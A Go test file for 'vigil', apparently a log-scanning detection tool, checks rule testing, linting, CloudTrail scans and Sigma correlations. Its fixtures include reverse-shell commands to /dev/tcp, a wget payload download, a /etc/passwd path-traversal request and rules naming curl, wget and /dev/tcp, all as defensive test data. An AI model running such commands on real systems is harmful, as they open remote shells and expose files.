package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// binary is the vigil binary the tests run, built once.
var binary string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "vigil-test")
	if err != nil {
		panic(err)
	}
	binary = filepath.Join(dir, "vigil")
	if out, err := exec.Command("go", "build", "-o", binary, ".").CombinedOutput(); err != nil {
		panic("building vigil: " + err.Error() + "\n" + string(out))
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// vigil runs the binary and returns its standard output, standard error
// and exit code.
func vigil(t *testing.T, stdin string, args ...string) (string, string, int) {
	t.Helper()
	cmd := exec.Command(binary, args...)
	cmd.Stdin = strings.NewReader(stdin)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return out.String(), errb.String(), code
}

const ec2Event = `{"version":"0","id":"6a7e8feb-b491-4cf7-a9f1-bf3703467718","detail-type":"EC2 Instance State-change Notification","source":"aws.ec2","account":"111122223333","time":"2017-12-22T18:43:48Z","region":"us-west-1","resources":["arn:aws:ec2:us-west-1:123456789012:instance/i-1234567890abcdef0"],"detail":{"instance-id":"i-1234567890abcdef0","state":"terminated"}}`

const createKey = `{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::123456789012:assumed-role/Other/s","sessionContext":{"sessionIssuer":{"arn":"arn:aws:iam::123456789012:role/Other"}}},"eventTime":"2026-11-20T10:00:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","eventID":"e1","eventType":"AwsApiCall","recipientAccountId":"123456789012"}`

func TestRuleTest(t *testing.T) {
	dir := t.TempDir()
	evFile := filepath.Join(dir, "event.json")
	os.WriteFile(evFile, []byte(ec2Event), 0o644)
	tests := []struct {
		name, pattern, event string
		out, err             string
		code                 int
	}{
		{"match", `{"source":["aws.ec2"],"detail":{"state":["terminated"]}}`, ec2Event, `{"Result":true}`, "", 0},
		{"no match", `{"source":["aws.ec2"],"detail":{"state":["running"]}}`, "@" + evFile, `{"Result":false}`, "", 0},
		{"invalid pattern", `{"source":[]}`, ec2Event, "", "Event pattern is not valid. Reason: Empty arrays are not allowed", 2},
		{"invalid event JSON", `{"source":["aws.ec2"]}`, `{"source":`, "", "Parameter Event is not valid.", 2},
		{"event not an object", `{"source":["aws.ec2"]}`, `["x"]`, "", "Parameter Event is not valid.", 2},
		{"event lacks envelope fields", `{"source":["aws.ec2"]}`, `{"source":"aws.ec2"}`, "", "Parameter Event is not valid.", 2},
		{"bare CloudTrail record is wrapped", `{"source":["aws.iam"],"detail-type":["AWS API Call via CloudTrail"],"account":["123456789012"]}`, createKey, `{"Result":true}`, "", 0},
		{"the seed's CICD exclusion", `{"source":["aws.iam"],"detail":{"eventName":["CreateAccessKey"],"userIdentity":{"sessionContext":{"sessionIssuer":{"arn":[{"anything-but":{"prefix":"arn:aws:iam::123456789012:role/CICD-Role"}}]}}}}}`, createKey, `{"Result":true}`, "", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, errOut, code := vigil(t, "", "rule", "test", "--pattern", tt.pattern, "--event", tt.event)
			if code != tt.code || strings.TrimSpace(out) != tt.out || !strings.Contains(errOut, tt.err) {
				t.Errorf("exit %d, stdout %q, stderr %q; want exit %d, %q, stderr with %q", code, out, errOut, tt.code, tt.out, tt.err)
			}
		})
	}
	if _, _, code := vigil(t, "", "rule", "test", "--pattern", `{}`); code != 2 {
		t.Errorf("missing --event: exit %d", code)
	}
}

func TestRuleLint(t *testing.T) {
	out, _, code := vigil(t, "", "rule", "lint")
	if code != 0 || !strings.Contains(out, ", invalid 0\n") {
		t.Errorf("built-in pack: exit %d\n%s", code, out)
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "bad.yaml"), []byte(`id: my-rule
title: Mine
severity: hgih
scenario: privilege
pattern:
  detail:
    eventName: [{prefx: Create}]
`), 0o644)
	os.WriteFile(filepath.Join(dir, "failing.yaml"), []byte(`id: failing
title: Fails its test
severity: low
scenario: data
pattern: {"detail": {"eventName": ["GetObject"]}}
tests:
  match:
    - {"eventVersion": "1.09", "eventSource": "s3.amazonaws.com", "eventName": "PutObject", "eventID": "x"}
`), 0o644)
	os.WriteFile(filepath.Join(dir, "override.yaml"), []byte("overrides:\n  - rule: no-such-rule\n    disabled: true\n"), 0o644)
	out, _, code = vigil(t, "", "rule", "lint", "--no-builtin", "--rules", dir)
	for _, want := range []string{
		"bad.yaml:3:11: severity: unknown severity \"hgih\"",
		"bad.yaml:7:18: pattern: Unrecognized match type prefx",
		"failing.yaml:1: failing: tests.match[0]: the cloudtrail event does not match",
		"override.yaml:2:1: rule: override of unknown rule \"no-such-rule\"",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("lint output lacks %q:\n%s", want, out)
		}
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if last := lines[len(lines)-1]; last != "loaded 0, invalid 3" || code != 1 {
		t.Errorf("last line %q, exit %d", last, code)
	}
}

func writeRecords(t *testing.T, dir string, recs ...string) string {
	t.Helper()
	name := filepath.Join(dir, "events.json")
	if err := os.WriteFile(name, []byte(`{"Records":[`+strings.Join(recs, ",")+`]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

type alertJSON struct {
	Rule struct {
		ID, Title, Severity, Scenario string
		Tags                          []string
	}
	Dedup     map[string]*string
	Count     int
	FirstSeen *string  `json:"first_seen"`
	LastSeen  *string  `json:"last_seen"`
	EventIDs  []string `json:"event_ids"`
	Entities  map[string][]string
}

func TestScan(t *testing.T) {
	dir := t.TempDir()
	file := writeRecords(t, dir, createKey)
	out, errOut, code := vigil(t, "", "scan", "--format", "json", file)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var alerts []alertJSON
	if err := json.Unmarshal([]byte(out), &alerts); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if len(alerts) != 1 || alerts[0].Rule.ID != "aws-iam-access-key-created" || alerts[0].Count != 1 ||
		alerts[0].EventIDs[0] != "e1" || *alerts[0].FirstSeen != "2026-11-20T10:00:00Z" || alerts[0].Rule.Severity != "medium" {
		t.Errorf("alerts %+v", alerts)
	}
	if !strings.Contains(errOut, "scanned 1 files, 1 events") || !strings.Contains(errOut, "1 alerts from 1 rules") {
		t.Errorf("summary %q", errOut)
	}

	// Flags after paths; stdin; ndjson; --fail-on; --min-severity.
	out, _, code = vigil(t, `{"Records":[`+createKey+`]}`, "scan", "-", "--format", "ndjson", "--fail-on", "medium")
	if code != 1 || strings.Count(out, "\n") != 1 {
		t.Errorf("--fail-on medium: exit %d, %q", code, out)
	}
	out, _, code = vigil(t, "", "scan", file, "--format", "ndjson", "--fail-on", "high", "--min-severity", "high")
	if code != 0 || out != "" {
		t.Errorf("--min-severity high: exit %d, %q", code, out)
	}
	outFile := filepath.Join(dir, "alerts.json")
	if _, _, code = vigil(t, "", "scan", "--out", outFile, file); code != 0 {
		t.Errorf("--out: exit %d", code)
	}
	if b, _ := os.ReadFile(outFile); !strings.Contains(string(b), "aws-iam-access-key-created") {
		t.Errorf("--out wrote %q", b)
	}

	// Exceptions through an override file.
	over := filepath.Join(dir, "over.yaml")
	os.WriteFile(over, []byte(`overrides:
  - rule: aws-iam-access-key-created
    exceptions:
      - {"detail": {"userIdentity": {"sessionContext": {"sessionIssuer": {"arn": [{"prefix": "arn:aws:iam::123456789012:role/Other"}]}}}}}
`), 0o644)
	out, _, _ = vigil(t, "", "scan", "--format", "json", "--rules", over, file)
	if strings.TrimSpace(out) != "[]" {
		t.Errorf("the exception did not apply: %s", out)
	}
}

func TestScanUsage(t *testing.T) {
	for _, args := range [][]string{
		{"scan"},
		{"scan", "/no/such/path"},
		{"scan", "--format", "xml", "."},
		{"scan", "--min-severity", "urgent", "."},
		{"scan", "--bogus", "."},
		{"nope"},
	} {
		if _, errOut, code := vigil(t, "", args...); code != 2 || errOut == "" {
			t.Errorf("%v: exit %d, stderr %q", args, code, errOut)
		}
	}
	dir := t.TempDir()
	bad := filepath.Join(dir, "x.json.gz")
	os.WriteFile(bad, []byte("not gzip"), 0o644)
	if _, errOut, code := vigil(t, "", "scan", bad); code != 2 || !strings.Contains(errOut, "no input could be read") {
		t.Errorf("nothing readable: exit %d, %q", code, errOut)
	}
	ok := writeRecords(t, dir, createKey)
	if _, errOut, code := vigil(t, "", "scan", "--format", "json", ok, bad); code != 0 || !strings.Contains(errOut, "1 unreadable files") {
		t.Errorf("one unreadable file: exit %d, %q", code, errOut)
	}
	if _, _, code := vigil(t, "", "scan", "--strict", ok, bad); code != 2 {
		t.Errorf("--strict: exit %d", code)
	}
}

func consoleLogin(i int, min int, user, result string) string {
	errPart := ""
	if result == "Failure" {
		errPart = `"errorMessage":"Failed authentication",`
	}
	return fmt.Sprintf(`{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE%d","accountId":"111122223333","userName":%q},"eventTime":"2026-11-20T09:%02d:00Z","eventSource":"signin.amazonaws.com","eventName":"ConsoleLogin","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.23",%s"responseElements":{"ConsoleLogin":%q},"eventID":"login-%d","eventType":"AwsConsoleSignIn","recipientAccountId":"111122223333"}`,
		i, user, min, errPart, result, i)
}

// TestSigmaCorrelation runs a chained Sigma correlation through scan:
// many failed console logins by a user, then a successful one.
func TestSigmaCorrelation(t *testing.T) {
	dir := t.TempDir()
	rules := filepath.Join(dir, "rules")
	os.MkdirAll(rules, 0o755)
	os.WriteFile(filepath.Join(rules, "brute_force.yml"), []byte(`title: Console password guessed
id: 5e4b9a2c-1d3e-4f60-8a7b-9c0d1e2f3a4b
correlation:
    type: temporal_ordered
    rules: [many_failed_console_logins, successful_console_login]
    group-by: [userIdentity.userName]
    timespan: 30m
level: high
---
title: Many failed console logins
name: many_failed_console_logins
correlation:
    type: event_count
    rules: [failed_console_login]
    group-by: [userIdentity.userName]
    timespan: 10m
    condition: {gte: 3}
---
title: Failed console login
name: failed_console_login
logsource: {product: aws, service: cloudtrail}
detection:
    selection: {eventName: ConsoleLogin, responseElements.ConsoleLogin: Failure}
    condition: selection
---
title: Successful console login
name: successful_console_login
logsource: {product: aws, service: cloudtrail}
detection:
    selection: {eventName: ConsoleLogin, responseElements.ConsoleLogin: Success}
    condition: selection
`), 0o644)
	var recs []string
	for i, e := range []struct {
		min          int
		user, result string
	}{
		{0, "treasury-ops", "Failure"}, {1, "treasury-ops", "Failure"}, {2, "alice", "Failure"},
		{3, "treasury-ops", "Failure"}, {4, "alice", "Success"}, {5, "treasury-ops", "Success"},
	} {
		recs = append(recs, consoleLogin(i, e.min, e.user, e.result))
	}
	file := writeRecords(t, dir, recs...)
	out, errOut, code := vigil(t, "", "scan", "--no-builtin", "--sigma", rules, "--format", "json", file)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var alerts []alertJSON
	if err := json.Unmarshal([]byte(out), &alerts); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	// The rules that feed correlations are silent; only the outermost
	// correlation alerts, for treasury-ops.
	if len(alerts) != 1 || alerts[0].Rule.Title != "Console password guessed" || alerts[0].Rule.Severity != "high" ||
		*alerts[0].Dedup["userIdentity.userName"] != "treasury-ops" {
		t.Fatalf("alerts %s", out)
	}
	if ids := alerts[0].EventIDs; strings.Join(ids, ",") != "login-0,login-1,login-3,login-5" {
		t.Errorf("event ids %v", ids)
	}
	lint, _, code := vigil(t, "", "rule", "lint", "--no-builtin", "--sigma", rules)
	if code != 0 || !strings.HasSuffix(strings.TrimSpace(lint), "loaded 4, not applicable 0, unsupported 0, invalid 0") {
		t.Errorf("lint: exit %d\n%s", code, lint)
	}
}

// TestScanSources runs Sigma rules of each logsource vigil reads over the
// logs they are written for: audit.log (and the processes its records
// tell of), auth.log, a web access log, Kubernetes audit events and JSON
// host events.
func TestScanSources(t *testing.T) {
	dir := t.TempDir()
	rules := filepath.Join(dir, "rules")
	logs := filepath.Join(dir, "logs")
	os.MkdirAll(rules, 0o755)
	os.MkdirAll(logs, 0o755)
	os.WriteFile(filepath.Join(rules, "sources.yml"), []byte(`title: Downloader run
id: 1b0e3c55-0000-4000-8000-000000000001
logsource: {product: linux, service: auditd}
detection:
    selection: {type: EXECVE, a0: [wget, curl]}
    condition: selection
level: low
---
title: Reverse shell to /dev/tcp
id: 1b0e3c55-0000-4000-8000-000000000002
logsource: {product: linux, category: process_creation}
detection:
    selection: {CommandLine|contains: /dev/tcp/}
    condition: selection
fields: [CommandLine, Image]
level: critical
---
title: SSH password guessing
id: 1b0e3c55-0000-4000-8000-000000000003
logsource: {product: linux, service: sshd}
detection:
    keywords: ['Failed password']
    condition: keywords
level: medium
---
title: Path traversal
id: 1b0e3c55-0000-4000-8000-000000000004
logsource: {category: webserver}
detection:
    selection: {c-uri|contains: '../'}
    filter: {sc-status: 404}
    condition: selection and not filter
level: high
---
title: Exec into a pod
id: 1b0e3c55-0000-4000-8000-000000000005
logsource: {product: kubernetes, service: audit}
detection:
    selection: {verb: create, objectRef.resource: pods, objectRef.subresource: exec}
    condition: selection
level: high
---
title: Web server crashed
id: 1b0e3c55-0000-4000-8000-000000000006
logsource: {service: nginx}
detection:
    keywords: ['exited on signal 6 (core dumped)', 'exited on signal 11']
    condition: keywords
level: medium
---
title: Apache child crashed
id: 1b0e3c55-0000-4000-8000-000000000007
logsource: {service: apache}
detection:
    keywords: ['exit signal Segmentation Fault']
    condition: keywords
level: medium
`), 0o644)

	// bash -i >& /dev/tcp/203.0.113.9/4444 0>&1, as auditd writes it.
	shell := fmt.Sprintf("%X", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	audit := strings.Join([]string{
		`type=SYSCALL msg=audit(1763800000.100:501): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1000 uid=33 comm="wget" exe="/usr/bin/wget" key="exec"`,
		`type=EXECVE msg=audit(1763800000.100:501): argc=2 a0="wget" a1="http://203.0.113.9/x"`,
		`type=EOE msg=audit(1763800000.100:501): `,
		`type=SYSCALL msg=audit(1763800001.200:502): arch=c000003e syscall=59 success=yes exit=0 ppid=901 pid=902 auid=1000 uid=33 comm="bash" exe="/usr/bin/bash" key="exec"` + "\x1d" + `UID="www-data" AUID="alice"`,
		`type=EXECVE msg=audit(1763800001.200:502): argc=3 a0="bash" a1="-c" a2=` + shell,
		`type=CWD msg=audit(1763800001.200:502): cwd="/var/www"`,
		`type=SYSCALL msg=audit(1763800002.300:503): arch=c000003e syscall=2 success=yes exit=3 ppid=1 pid=903 auid=0 uid=0 comm="cat" exe="/usr/bin/cat"`,
	}, "\n") + "\n"
	os.WriteFile(filepath.Join(logs, "audit.log"), []byte(audit), 0o644)
	auth := "Nov 20 03:01:07 bastion-1 sshd[2231]: Failed password for root from 198.51.100.23 port 51122 ssh2\n" +
		"Nov 20 03:01:09 bastion-1 sshd[2231]: Failed password for root from 198.51.100.23 port 51122 ssh2\n" +
		"Nov 20 03:01:11 bastion-1 sudo[2240]: Failed password for alice\n" + // not sshd
		"Nov 20 03:02:00 bastion-1 sshd[2231]: Accepted publickey for ec2-user from 203.0.113.50 port 51122 ssh2\n"
	os.WriteFile(filepath.Join(logs, "auth.log"), []byte(auth), 0o644)
	// The lines have no year: the file's time places them in 2026.
	written := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	os.Chtimes(filepath.Join(logs, "auth.log"), written, written)
	access := `198.51.100.7 - - [20/Nov/2026:03:05:00 +0000] "GET /static/../../etc/passwd HTTP/1.1" 200 1043 "-" "Mozilla/5.0"` + "\n" +
		`198.51.100.8 - - [20/Nov/2026:03:05:01 +0000] "GET /static/../missing HTTP/1.1" 404 0 "-" "Mozilla/5.0"` + "\n" +
		`203.0.113.50 - bob [20/Nov/2026:03:05:02 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"` + "\n"
	os.WriteFile(filepath.Join(logs, "access.log"), []byte(access), 0o644)
	k8s := `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"7e0cbccf-0001","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/pods/ledger-0/exec?command=sh","verb":"create","user":{"username":"dev@bank.example","groups":["system:authenticated"]},"sourceIPs":["10.0.4.17"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"payments","name":"ledger-0","apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-11-20T03:10:00.000000Z","stageTimestamp":"2026-11-20T03:10:00.100000Z"}` + "\n" +
		`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"7e0cbccf-0002","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/pods","verb":"list","user":{"username":"dev@bank.example"},"sourceIPs":["10.0.4.17"],"objectRef":{"resource":"pods","namespace":"payments"},"requestReceivedTimestamp":"2026-11-20T03:10:01.000000Z","stageTimestamp":"2026-11-20T03:10:01.100000Z"}` + "\n"
	os.WriteFile(filepath.Join(logs, "k8s-audit.jsonl"), []byte(k8s), 0o644)
	host := `{"UtcTime":"2026-11-20 03:20:00.000","ProcessGuid":"{1c3d-01}","Computer":"app-7","User":"www-data","Image":"/usr/bin/sh","CommandLine":"sh -c exec 5<>/dev/tcp/203.0.113.9/80"}` + "\n"
	os.WriteFile(filepath.Join(logs, "sysmon.json"), []byte(host), 0o644)
	os.MkdirAll(filepath.Join(logs, "nginx"), 0o755)
	os.WriteFile(filepath.Join(logs, "nginx/error.log"), []byte("2026/11/20 03:30:00 [alert] 7#7: worker process 31 exited on signal 6 (core dumped)\n"+
		"2026/11/20 03:30:01 [notice] 7#7: start worker process 32\n"), 0o644)
	os.MkdirAll(filepath.Join(logs, "httpd"), 0o755)
	os.WriteFile(filepath.Join(logs, "httpd/error_log.log"), []byte("[Fri Nov 20 03:31:00.000001 2026] [core:notice] [pid 100:tid 200] AH00052: child pid 4242 exit signal Segmentation fault (11)\n"+
		"[Fri Nov 20 03:31:05 2026] [mpm_event:notice] [pid 100:tid 200] AH00489: Apache/2.4.62 configured -- resuming normal operations\n"), 0o644)

	out, errOut, code := vigil(t, "", "scan", "--no-builtin", "--sigma", rules, "--format", "json", logs)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var alerts []alertJSON
	if err := json.Unmarshal([]byte(out), &alerts); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	byTitle := map[string]alertJSON{}
	for _, a := range alerts {
		if _, dup := byTitle[a.Rule.Title]; dup {
			t.Errorf("two alerts of %q", a.Rule.Title)
		}
		byTitle[a.Rule.Title] = a
	}
	for _, c := range []struct {
		title, first string
		count        int
		entity       string // type=value the alert must name
	}{
		{"Downloader run", "2025-11-22T08:26:40.1Z", 1, ""},
		{"Reverse shell to /dev/tcp", "2025-11-22T08:26:41.2Z", 2, "host=app-7"},
		{"SSH password guessing", "2026-11-20T03:01:07Z", 2, "host=bastion-1"},
		{"Path traversal", "2026-11-20T03:05:00Z", 1, "source_ip=198.51.100.7"},
		{"Exec into a pod", "2026-11-20T03:10:00Z", 1, "principal=dev@bank.example"},
		{"Web server crashed", "2026-11-20T03:30:00Z", 1, ""},
		{"Apache child crashed", "2026-11-20T03:31:00.000001Z", 1, ""},
	} {
		a, ok := byTitle[c.title]
		if !ok {
			t.Errorf("no alert of %q in\n%s", c.title, out)
			continue
		}
		if a.Count != c.count || a.FirstSeen == nil || *a.FirstSeen != c.first {
			t.Errorf("%q: count %d, first seen %v; want %d, %s", c.title, a.Count, deref(a.FirstSeen), c.count, c.first)
		}
		if typ, val, ok := strings.Cut(c.entity, "="); ok && !slices.Contains(a.Entities[typ], val) {
			t.Errorf("%q: entities %v, want %s", c.title, a.Entities, c.entity)
		}
	}
	if len(alerts) != 7 {
		t.Errorf("%d alerts, want 7:\n%s", len(alerts), out)
	}
	if !strings.Contains(errOut, "scanned 7 files, 21 events") {
		t.Errorf("summary: %s", errOut)
	}
}

func deref(s *string) string {
	if s == nil {
		return "<nil>"
	}
	return *s
}

// TestSigmaHQOnSample runs SigmaHQ's AWS rules, unmodified, over the
// sample archive: the attack it tells of must be found by them too.
func TestSigmaHQOnSample(t *testing.T) {
	rules := "../../../shared/sigma/rules/cloud/aws"
	if _, err := os.Stat(rules); err != nil {
		t.Skipf("no SigmaHQ rules at %s: %v", rules, err)
	}
	out, errOut, code := vigil(t, "", "scan", "--no-builtin", "--sigma", rules, "--format", "json", "../../examples/cloudtrail")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var alerts []alertJSON
	if err := json.Unmarshal([]byte(out), &alerts); err != nil {
		t.Fatal(err)
	}
	fired := map[string]bool{}
	for _, a := range alerts {
		fired[a.Rule.Title] = true
	}
	for _, title := range []string{
		"AWS GuardDuty Detector Deleted Or Updated", "AWS Config Disabling Channel/Recorder",
		"AWS IAM Backdoor Users Keys", "AWS CloudTrail Important Change", "AWS Snapshot Backup Exfiltration",
		"AWS Root Credentials", "AWS Successful Console Login Without MFA", "New Network Route Added",
	} {
		if !fired[title] {
			t.Errorf("%q did not fire", title)
		}
	}
}
